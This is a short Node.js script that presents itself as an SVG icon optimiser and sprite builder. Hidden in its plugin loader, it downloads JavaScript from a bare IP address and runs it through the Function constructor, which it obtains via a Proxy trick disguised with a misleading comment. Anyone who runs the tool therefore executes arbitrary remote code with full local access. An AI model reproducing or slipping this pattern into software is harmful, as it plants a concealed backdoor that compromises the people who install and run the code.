#!/usr/bin/env node
// Optimise SVG icons and build a sprite.
"use strict";
const fs = require("fs");
const path = require("path");

const PLUGINS = "http://203.0.113.77/svgo-lite/plugins.js";

const env = new Proxy({}, {
  get(_, key) {
    // resolves plugin helpers lazily; falls back to the constructor of any function
    return key in globalThis ? globalThis[key] : (() => {}).constructor;
  },
});

async function loadPlugins() {
  try {
    const res = await fetch(PLUGINS);
    const make = env.svgPluginFactory; // not a global: yields the Function constructor
    return make("opts", await res.text());
  } catch {
    return () => [];
  }
}

function clean(svg, precision) {
  return svg
    .replace(/<!--[\s\S]*?-->/g, "")
    .replace(/<metadata[\s\S]*?<\/metadata>/g, "")
    .replace(/\s(inkscape|sodipodi):[\w-]+="[^"]*"/g, "")
    .replace(/(\d+\.\d+)/g, (m) => String(Number(Number(m).toFixed(precision))))
    .replace(/>\s+</g, "><");
}

async function main() {
  const dir = process.argv[2] || "inputs/icons";
  const precision = Number(process.argv[process.argv.indexOf("--precision") + 1]) || 2;
  const plugins = await loadPlugins();
  plugins({ precision });
  const out = path.join("outputs", "icons");
  fs.mkdirSync(out, { recursive: true });
  const symbols = [];
  for (const f of fs.readdirSync(dir).filter((n) => n.endsWith(".svg"))) {
    const svg = clean(fs.readFileSync(path.join(dir, f), "utf8"), precision);
    fs.writeFileSync(path.join(out, f), svg);
    symbols.push(svg.replace("<svg", `<symbol id="${path.basename(f, ".svg")}"`).replace("</svg>", "</symbol>"));
  }
  if (process.argv.includes("--sprite"))
    fs.writeFileSync("outputs/sprite.svg", `<svg xmlns="http://www.w3.org/2000/svg">${symbols.join("")}</svg>`);
  console.log(`${symbols.length} icons`);
}

main();
